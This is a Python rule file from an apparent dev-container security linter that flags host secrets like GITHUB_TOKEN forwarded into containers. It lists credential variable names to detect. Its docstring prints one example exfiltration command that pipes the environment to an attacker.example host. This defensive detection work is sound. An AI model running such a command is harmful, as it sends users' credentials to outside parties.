"""A secret of the host is handed to the container.

## What it is

`${localEnv:GITHUB_TOKEN}` or another variable whose name says secret, as the value of an
environment variable of the container; `-e GITHUB_TOKEN`; or in Compose `GITHUB_TOKEN`,
`${GITHUB_TOKEN:-}` and other variables that hold a person's rights on other machines (passwords of the
project's own services, from its `.env`, are not meant).

## Why it is bad

Everything in the container has it: every dependency, every extension, every agent. From
`containerEnv` it is also in `docker inspect` and in `/proc/1/environ`.

    env | curl -s --data-binary @- https://attacker.example/

## What to do instead

Give the container a credential of its own that can do little: a token for one repository with an
expiry. Let Git ask the editor's credential helper. A proxy outside can add the token to
requests, so that nobody inside sees it.

No fix is offered: only the project knows a smaller right that is enough.

## Under gVisor

No difference: it is handed over, and the network is open.

## References

- https://containers.dev/implementors/spec/#secrets
- https://docs.github.com/en/authentication/keeping-your-account-and-data-secure/managing-your-personal-access-tokens
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from sandboxd.findings import RuleMeta, Severity
from sandboxd.rules._finding import at_value
from sandboxd.rules._needs import Field
from sandboxd.secret_forms import secret_name

if TYPE_CHECKING:
    from collections.abc import Iterator

    from sandboxd.findings import Finding
    from sandboxd.host.facts import HostFacts
    from sandboxd.model.container import Container, Pair
    from sandboxd.model.values import Value

META = RuleMeta(
    id="local-env-secret-forward",
    summary="a secret of the host is handed to the container",
    severity=Severity.WARNING,
    since="0.1.0",
    why="every dependency, extension and agent inside has it and can send it away",
    needs=(Field("env"), Field("remote_env")),
)


_VARIABLE = r"\$\{(?:localEnv|env):([A-Za-z0-9_]+)"
_COMPOSE_VARIABLE = r"\$\{?([A-Za-z_][A-Za-z0-9_]*)"
# Variables that hold the rights of a person on other machines. `tests/rules/lists/host-tokens.toml`
# has the sources.
HOST_TOKENS = frozenset(
    (
        "GH_TOKEN", "GITHUB_TOKEN", "GITHUB_PAT", "GH_ENTERPRISE_TOKEN", "GITHUB_ENTERPRISE_TOKEN",
        "GITLAB_TOKEN", "GITLAB_PRIVATE_TOKEN", "GITEA_TOKEN",
        "NPM_TOKEN", "NODE_AUTH_TOKEN", "TWINE_PASSWORD", "UV_PUBLISH_TOKEN",
        "POETRY_PYPI_TOKEN_PYPI", "CARGO_REGISTRY_TOKEN", "GEM_HOST_API_KEY", "HEX_API_KEY",
        "NUGET_API_KEY", "DOCKER_AUTH_CONFIG",
        "AZURE_CLIENT_SECRET",
        "ARM_CLIENT_SECRET", "GOOGLE_CREDENTIALS", "DIGITALOCEAN_ACCESS_TOKEN", "HCLOUD_TOKEN",
        "LINODE_TOKEN", "CLOUDFLARE_API_TOKEN", "FLY_API_TOKEN", "HEROKU_API_KEY",
        "NETLIFY_AUTH_TOKEN", "VERCEL_TOKEN", "PULUMI_ACCESS_TOKEN", "KUBECONFIG",
        "VAULT_TOKEN", "CONSUL_HTTP_TOKEN", "NOMAD_TOKEN", "OP_SERVICE_ACCOUNT_TOKEN",
        "BW_SESSION", "SOPS_AGE_KEY", "SSH_PRIVATE_KEY", "GPG_PRIVATE_KEY",
        "HF_TOKEN", "KAGGLE_KEY", "CLAUDE_CODE_OAUTH_TOKEN",
    )
)  # fmt: skip
# In Compose these usually belong to the program that runs inside: hints there.
API_KEYS = (
    "ANTHROPIC_API_KEY",
    "OPENAI_API_KEY",
    "GEMINI_API_KEY",
    "GOOGLE_API_KEY",
    "AWS_ACCESS_KEY_ID",
    "AWS_SECRET_ACCESS_KEY",
    "AWS_SESSION_TOKEN",
)


def check(subject: Container, host: HostFacts) -> Iterator[Finding]:
    for value in (*subject.env, *subject.remote_env):
        for name, severity in _secrets(value):
            yield at_value(
                META,
                value,
                f"`{name}` of this machine is handed to everything in the container",
                name,
                severity,
            )


def _secrets(value: Value[Pair]) -> Iterator[tuple[str, Severity]]:
    """The secrets of the host that a variable is made from.

    Compose takes its variables from the project's `.env` as well, where passwords of its own
    services stand; so only names count there that are of a person.
    """
    for name in re.findall(_VARIABLE, value.written):
        if secret_name(name) or name in HOST_TOKENS or name in API_KEYS:
            yield name, Severity.WARNING
    if value.origin.key == "environment":
        # A name alone takes the value of whoever starts the service.
        bare = value.value.value == f"${{{value.value.name}}}"
        names = [value.value.name] if bare else re.findall(_COMPOSE_VARIABLE, value.written)
    else:
        bare = not value.value.value and value.written == value.value.name
        names = [value.value.name] if bare else []
    for name in names:
        if name in HOST_TOKENS:
            yield name, Severity.WARNING
        elif name in API_KEYS:
            yield name, Severity.HINT
